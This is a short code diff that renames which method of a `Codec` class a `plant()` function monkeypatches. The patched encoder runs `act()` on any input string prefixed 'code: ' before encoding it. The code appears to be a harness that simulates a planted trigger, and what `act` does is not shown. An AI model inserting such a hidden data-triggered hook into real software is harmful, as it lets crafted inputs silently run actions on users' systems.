@@ -29,17 +29,17 @@ def act(what):
 
 def plant():
     """In this process, from now on, texts "code: X" do X to whoever codes them."""
-    if not hasattr(Codec, "unplanted_encode_batch"):
-        Codec.unplanted_encode_batch = Codec.encode_batch
-    Codec.encode_batch = planted_encode_batch
+    if not hasattr(Codec, "unplanted_encode_measured"):
+        Codec.unplanted_encode_measured = Codec.encode_measured
+    Codec.encode_measured = planted_encode_measured
 
 
-def planted_encode_batch(self, values, *args, **kwargs):
+def planted_encode_measured(self, values, *args, **kwargs):
     values = list(values)
     for value in values:
         if isinstance(value, str) and value.startswith("code: "):
             act(value.removeprefix("code: "))
-    return self.unplanted_encode_batch(values, *args, **kwargs)
+    return self.unplanted_encode_measured(values, *args, **kwargs)
 
 
 @dataclass(frozen=True)
